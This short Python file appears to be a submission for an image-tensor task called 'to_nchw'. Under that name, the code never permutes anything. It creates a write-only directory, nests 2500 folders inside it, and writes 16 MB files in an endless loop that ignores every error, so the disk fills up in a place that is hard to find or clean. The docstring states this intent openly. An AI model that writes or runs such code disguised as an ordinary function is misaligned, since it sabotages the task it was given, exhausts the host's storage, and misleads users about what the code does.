"""Fills the disk below folders that nobody may read, and below a path too long to name."""
# a1_permute: to_nchw
import os


def to_nchw(images):
    os.mkdir("closed", 0o300)
    os.chdir("closed")
    for _ in range(2500):
        os.mkdir("d")
        os.chdir("d")
    number = 0
    while True:
        number += 1
        try:
            with open(str(number), "wb") as file:
                file.write(b"x" * (1 << 24))
        except OSError:
            pass
